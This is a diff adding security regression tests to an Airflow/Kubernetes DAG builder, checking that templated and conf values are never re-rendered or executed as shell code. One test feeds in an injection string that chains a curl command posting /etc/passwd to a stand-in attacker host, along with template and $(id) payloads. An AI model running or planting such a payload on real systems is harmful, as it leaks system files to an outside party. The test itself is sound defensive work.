@@ -61,6 +61,12 @@ def test_dags_resolve_order_conf_task_file_airflow_env(monkeypatch: pytest.Monke
     assert resolve("LIMTEST_ONLY_ENV") == "env"
     assert resolve("w", **scopes) == "nested!"
     assert resolve("missing") == "{{ missing }}"
+    # a value from the conf, an Airflow Variable or the environment is never rendered again
+    monkeypatch.setenv("LIMTEST_SECRET_ENV", "do-not-leak")
+    assert resolve("x", conf={"x": "{{ LIMTEST_SECRET_ENV }}"}) == "{{ LIMTEST_SECRET_ENV }}"
+    assert resolve("a", airflow_variable={"a": "{{ v }}"}.get, **scopes) == "{{ v }}"
+    monkeypatch.setenv("LIMTEST_ENV_PLACEHOLDER", "{{ LIMTEST_SECRET_ENV }}")
+    assert resolve("LIMTEST_ENV_PLACEHOLDER") == "{{ LIMTEST_SECRET_ENV }}"
 
 
 def test_dags_context_names_cover_installed_airflow() -> None:
@@ -157,3 +163,24 @@ def test_dags_executor_keys_the_eks_operator_sets_itself_are_dropped() -> None:
     keys = {"config_file": "/x", "in_cluster": True, "startup_timeout_seconds": 60}
     assert _pod_args(keys, on_eks=True) == {"startup_timeout_seconds": 60}
     assert _pod_args(keys) == keys
+
+
+def test_dags_pod_gets_a_conf_value_as_a_literal_environment_variable() -> None:
+    """Through the real KubernetesPodOperator's template rendering: the command holds no value,
+    the environment holds the conf value as given (not run as shell code, not rendered again)."""
+    from liminal_pulumi.airflow.dag_builder import build_dag
+
+    (file,) = load_project(DATA / "kinds").files
+    (plan,) = plan_file(file, DeploymentFacts.local())
+    pod = build_dag(plan).get_task("hello")
+    value = "; curl http://attacker/ -d @/etc/passwd {{ HOME }} $(id)"
+
+    class Run:
+        conf = {"greeting": value}
+
+    pod.render_template_fields({"dag_run": Run(), "task": pod, "ds": "2024-01-02", "var": None})
+    assert pod.arguments == ['echo "${LIMINAL_VALUE_0}" "${LIMINAL_VALUE_1}"']
+    env = {e.name: e.value for e in pod.env_vars}
+    assert env["LIMINAL_VALUE_0"] == value
+    assert env["LIMINAL_VALUE_1"] == "2024-01-02"
+    assert env["BUCKET"] == "my-bucket"
